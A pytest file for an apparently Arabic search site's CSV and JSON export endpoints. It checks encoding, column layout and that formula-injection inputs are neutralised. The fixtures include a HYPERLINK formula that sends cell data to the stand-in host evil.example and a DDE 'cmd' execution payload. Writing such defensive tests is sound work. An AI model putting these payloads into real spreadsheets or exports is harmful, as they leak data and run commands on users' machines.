from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from search.results import Hit, Results, Slice
from tests.web.fake import PlainService
from web.exports import to_csv


def rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def results(text: str) -> Results:
    title = (Slice(text, True), Slice(text, False))
    hit = Hit(text, title, 1.5, datetime(2024, 1, 31, tzinfo=UTC), text, text, text, title)
    return Results("ب", 1, 1.0, (hit,), {})


def test_table() -> None:
    assert rows(to_csv(results('قمر، "بدر"'))) == [
        ["id", "title", "date", "section", "source", "url", "score", "snippet"],
        [
            'قمر، "بدر"',
            'قمر، "بدر"قمر، "بدر"',
            "2024-01-31T00:00:00+00:00",
            *['قمر، "بدر"'] * 3,
            "1.5000",
            'قمر، "بدر"قمر، "بدر"',
        ],
    ]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        "＝1+1",  # full width, which some spreadsheets read as well
        "\x00=1+1",
        "|calc",
    ],
)
def test_no_cell_is_a_formula(formula: str) -> None:
    (_, row) = rows(to_csv(results(formula)))
    assert [cell[0] for place, cell in enumerate(row) if place not in {2, 6}] == ["'"] * 6


@given(st.text())
def test_any_text_gives_one_row_of_eight_cells(text: str) -> None:
    (_, row) = rows(to_csv(results(text)))
    assert len(row) == 8
    assert not any(cell.lstrip()[:1] in {*"=+-@"} and cell.strip() for cell in row if cell.strip())


def test_whole_search_as_a_table(client: FlaskClient, service: PlainService) -> None:
    response = client.get("/api/export.csv?q=النجوم&page=2&sort=oldest&section=علوم")
    assert response.content_type == "text/csv; charset=utf-8"
    assert "bahith.csv" in response.headers["Content-Disposition"]
    assert len(rows(response.text)) == 1 + 9
    assert service.asked[-1].section == "علوم"


def test_whole_search_as_json(client: FlaskClient) -> None:
    answer = client.get("/api/export.json?q=النجوم").get_json()
    assert len(answer["hits"]) == answer["total"] == 25


@pytest.mark.parametrize("name", ["csv", "json"])
def test_nothing_asked_is_refused(client: FlaskClient, name: str) -> None:
    response = client.get(f"/api/export.{name}?q=%20")
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "bad_q"
